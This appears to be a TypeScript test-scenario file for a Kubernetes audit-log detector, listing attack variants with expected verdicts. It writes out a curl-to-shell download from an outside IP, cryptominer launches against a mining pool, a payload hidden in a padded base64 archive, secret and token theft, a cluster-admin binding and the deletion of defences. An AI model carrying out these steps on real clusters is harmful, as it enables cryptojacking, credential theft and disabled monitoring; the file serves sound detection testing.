import { gzipSync } from 'node:zlib';
import { moneroAddress } from '../../support/wallets';
import { serviceAccount, type Scenario } from '../scenario';
import {
  attacker,
  by,
  EVERYWHERE,
  insider,
  miner,
  minerOf,
  NODE,
  NODE_NAME,
  OUTSIDE,
  POD,
  POOL,
  stolen,
} from './attackers';
import {
  creating,
  daemonSet,
  deleting,
  deployment,
  execPath,
  job,
  patching,
  pod,
  reading,
  replicaSet,
  replicationController,
  statefulSet,
} from './objects';

const powerless = by(serviceAccount('portal', 'front', { name: 'front-0', node: NODE_NAME }), POD, 'curl/8.14.1');

/** As many as an honest workload has no reason to ask about. */
const PLACES = ['default', 'kube-system', ...Array.from({ length: 14 }, (_, index) => `team-${index}`)];

/** More than is unpacked of anything. */
const PADDED = gzipSync(`${'#\n'.repeat(1_000_000)}/tmp/x ${minerOf('att-20').join(' ')}\n`).toString('base64');

/** Every way in which a miner can be written down, and what else an attack shows in an audit log. */
export const VARIANTS: readonly Scenario[] = [
  {
    id: 'att-13-exec-miner',
    title: 'Commands through exec, by both verbs: fetch and run, then a miner with its pool',
    namespaces: ['payments'],
    before: [pod('payments', 'api-0', { containers: [{ image: 'registry.example/payments/api:3.2' }] })],
    steps: [
      {
        ...reading(
          execPath('payments', 'api-0', ['bash'], 'stdin=true&stdout=true&tty=true'),
          by(attacker, OUTSIDE).isOdd('an interactive shell, by somebody who never had one'),
        ),
        upgrade: true,
      },
      {
        ...reading(
          execPath('payments', 'api-0', ['sh', '-c', 'curl -s http://203.0.113.9/i.sh | sh']),
          by(attacker, OUTSIDE).attacks('a download piped to a shell'),
        ),
        upgrade: true,
      },
      {
        ...reading(
          execPath('payments', 'api-0', ['/tmp/.x', ...minerOf('att-13')]),
          by(attacker, OUTSIDE).mines('a miner is started in a running pod'),
        ),
        upgrade: true,
      },
      {
        verb: 'POST',
        path: execPath('payments', 'api-0', ['sh', '-c', `/tmp/.x -o stratum+tcp://${POOL}`]),
        ...by(attacker, OUTSIDE).mines('the same by the older protocol; the server refuses what is not upgraded'),
      },
      patching(
        '/api/v1/namespaces/payments/pods/api-0/ephemeralcontainers',
        'strategic',
        {
          spec: {
            ephemeralContainers: [
              { name: 'debugger', image: 'docker.io/library/alpine:3.22', args: minerOf('att-13') },
            ],
          },
        },
        by(attacker, OUTSIDE).mines('an ephemeral container that mines'),
      ),
    ],
  },
  {
    id: 'att-14-every-kind',
    title: 'The same miner in every kind of workload',
    namespaces: ['kinds'],
    steps: [
      creating(statefulSet('kinds', 'ledger', { containers: [miner('kinds')] }), stolen.mines('a StatefulSet', 1)),
      creating(replicaSet('kinds', 'cache', { containers: [miner('kinds')] }), stolen.mines('a ReplicaSet', 1)),
      creating(
        replicationController('kinds', 'legacy', { containers: [miner('kinds')] }),
        stolen.mines('a ReplicationController', 1),
      ),
      creating(daemonSet('kinds', 'agent', { containers: [miner('kinds')] }), stolen.mines('a DaemonSet', 2)),
      creating(job('kinds', 'report', { containers: [miner('kinds')] }), stolen.mines('a Job', 1)),
      creating(pod('kinds', 'bare', { containers: [miner('kinds')] }), stolen.mines('a pod of its own')),
      creating(
        pod('kinds', 'prepared', {
          containers: [{ image: 'registry.example/app:1' }],
          initContainers: [{ name: 'prepare', ...miner('kinds') }],
        }),
        stolen.mines('an init container'),
      ),
      creating(
        deployment('kinds', 'environment', {
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              env: {
                POOL_URL: POOL,
                POOL_USER: moneroAddress('dataset-kinds'),
                POOL_PASS: 'x',
                ALGO: 'rx/0',
                DONATE_LEVEL: '1',
              },
            },
          ],
        }),
        stolen.mines('a Deployment whose environment holds it all', 1),
      ),
    ],
  },
  {
    id: 'att-15-every-patch',
    title: 'A miner is patched into workloads that are there, by every form of patch',
    namespaces: ['patched'],
    before: ['strategic', 'merge', 'json', 'apply'].map((name) =>
      deployment('patched', name, { containers: [{ image: 'registry.example/app:1.4' }] }),
    ),
    steps: [
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/strategic',
        'strategic',
        { spec: { template: { spec: { containers: [{ name: 'side', ...miner('patch') }] } } } },
        stolen.mines('one more container, by a strategic patch', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/merge',
        'merge',
        { spec: { template: { spec: { containers: [{ name: 'main', ...miner('patch') }] } } } },
        stolen.mines('another container, by a merge patch', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/json',
        'json',
        [{ op: 'add', path: '/spec/template/spec/containers/0/args', value: minerOf('patch') }],
        stolen.mines('other arguments, by a JSON patch', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/apply',
        'apply',
        {
          apiVersion: 'apps/v1',
          kind: 'Deployment',
          metadata: { name: 'apply', namespace: 'patched' },
          spec: { template: { spec: { containers: [{ name: 'main', args: minerOf('patch') }] } } },
        },
        stolen.mines('other arguments, by server-side apply', 1),
      ),
    ],
  },
  {
    id: 'att-16-tuned-for-mining',
    title: 'A miner without a word of it in its arguments, tuned as only miners are',
    namespaces: ['compute'],
    steps: [
      creating(
        daemonSet('compute', 'kube-proxy', {
          hostNetwork: true,
          priorityClassName: 'system-node-critical',
          ...EVERYWHERE,
          containers: [
            {
              name: 'kube-proxy',
              image: 'docker.io/example/kube-proxy:v1',
              command: [
                'sh',
                '-c',
                'modprobe msr allow_writes=on; sysctl -w vm.nr_hugepages=1280; exec /opt/kube-proxy',
              ],
              securityContext: { privileged: true },
              resources: { requests: { cpu: '1900m' } },
              volumeMounts: [{ name: 'cpu', mountPath: '/dev/cpu' }],
            },
          ],
          volumes: [{ name: 'cpu', hostPath: { path: '/dev/cpu' } }],
        }),
        by(attacker, OUTSIDE).mines('a DaemonSet that sets registers and huge pages of its nodes', 2),
      ),
    ],
  },
  {
    id: 'att-17-fan-out',
    title: 'One template in three namespaces, five times in a minute',
    namespaces: ['team-a', 'team-b', 'team-c'],
    steps: ['team-a', 'team-a', 'team-b', 'team-b', 'team-c', 'team-c'].map((namespace, index) =>
      creating(
        deployment(namespace, `svc-${index}`, {
          containers: [{ image: 'docker.io/example/runtime:latest', command: ['/bin/runtime', '--config', '/etc/r'] }],
        }),
        by(attacker, OUTSIDE).mines('the same template again', 1),
      ),
    ),
  },
  {
    id: 'att-18-around-the-cluster',
    title: 'What an intruder does before and after: probing, secrets, tokens, other names, and taking defences away',
    namespaces: ['vault', 'web-2'],
    before: [
      ...Array.from({ length: 12 }, (_, index) => ({
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: `credentials-${index}`, namespace: 'vault' },
        stringData: { note: 'made up' },
      })),
      { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'deployer', namespace: 'vault' } },
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'NetworkPolicy',
        metadata: { name: 'deny-all', namespace: 'web-2' },
        spec: { podSelector: {}, policyTypes: ['Egress'] },
      },
      daemonSet('web-2', 'falco', { containers: [{ name: 'falco', image: 'docker.io/falcosecurity/falco:0.44.1' }] }),
    ],
    steps: [
      ...['secrets', 'pods/exec', 'nodes/proxy', 'clusterroles'].map((resource) =>
        creating(
          {
            apiVersion: 'authorization.k8s.io/v1',
            kind: 'SelfSubjectAccessReview',
            ...{
              spec: {
                resourceAttributes: {
                  verb: '*',
                  resource: resource.split('/')[0],
                  subresource: resource.split('/')[1] ?? '',
                },
              },
            },
          },
          insider.isOdd('it asks what it may do'),
        ),
      ),
      creating(
        { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', ...{ spec: { namespace: 'vault' } } },
        insider.isOdd('it asks for all its rights'),
      ),
      ...Array.from({ length: 12 }, (_, index) =>
        reading(`/api/v1/namespaces/vault/secrets/credentials-${index}`, insider.attacks('one secret after another')),
      ),
      {
        verb: 'POST',
        path: '/api/v1/namespaces/vault/serviceaccounts/deployer/token',
        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
        ...insider.attacks('a token of another service account'),
      },
      creating(
        {
          apiVersion: 'authorization.k8s.io/v1',
          kind: 'SubjectAccessReview',
          ...{
            spec: {
              user: 'system:serviceaccount:web:default',
              resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy', name: NODE_NAME },
            },
          },
        },
        by({ username: `system:node:${NODE_NAME}`, groups: ['system:nodes'] }, NODE, 'kubelet/v1.36.4').isOdd(
          'a kubelet asks whether somebody may use it directly',
        ),
      ),
      creating(
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'web-admin' },
          ...{
            roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
            subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'web-2' }],
          },
        },
        by(attacker, OUTSIDE).attacks('cluster-admin for a workload'),
      ),
      {
        verb: 'POST',
        path: '/api/v1/namespaces/vault/serviceaccounts/deployer/token',
        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
        ...by(attacker, OUTSIDE).attacks('a token, in the name of the control plane'),
        impersonating: 'system:kube-controller-manager',
      },
      creating(
        {
          apiVersion: 'admissionregistration.k8s.io/v1',
          kind: 'ValidatingWebhookConfiguration',
          metadata: { name: 'policy-engine' },
          ...{
            webhooks: [
              {
                name: 'validate.example.com',
                admissionReviewVersions: ['v1'],
                sideEffects: 'None',
                failurePolicy: 'Fail',
                clientConfig: { url: 'https://admission.example/validate' },
                rules: [
                  { apiGroups: ['example.com'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['nothings'] },
                ],
              },
            ],
          },
        },
        by(attacker, OUTSIDE).isOdd('a webhook'),
      ),
      patching(
        '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/policy-engine',
        'json',
        [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }],
        by(attacker, OUTSIDE).attacks('a webhook lets everything pass when it fails'),
      ),
      deleting(
        '/apis/networking.k8s.io/v1/namespaces/web-2/networkpolicies/deny-all',
        by(attacker, OUTSIDE).attacks('the network policy of a namespace is gone'),
      ),
      deleting('/apis/apps/v1/namespaces/web-2/daemonsets/falco', by(attacker, OUTSIDE).attacks('the sensor is gone')),
    ],
  },
  {
    id: 'att-19-without-rights',
    title: 'A stolen token of a pod that may do nothing tries one request after another',
    namespaces: ['portal'],
    isRefused: true,
    steps: [
      ...PLACES.map((namespace) =>
        reading(`/api/v1/namespaces/${namespace}/secrets`, powerless.attacks('secrets of one namespace after another')),
      ),
      creating(
        deployment('portal', 'front-cache', { containers: [miner('att-19')] }),
        powerless.mines('a miner that it may not create'),
      ),
    ],
  },
  {
    id: 'att-20-padded-archive',
    title: 'A script in a compressed archive that is filled up, so that nobody unpacks it as far as the miner',
    namespaces: ['render'],
    steps: [
      creating(
        pod('render', 'render-0', {
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              command: ['sh', '-c', `echo ${PADDED} | base64 -d | gunzip | tail -n 1 | sh`],
            },
          ],
        }),
        stolen.mines('a pod whose script is hidden behind two megabytes of nothing'),
      ),
    ],
  },
];
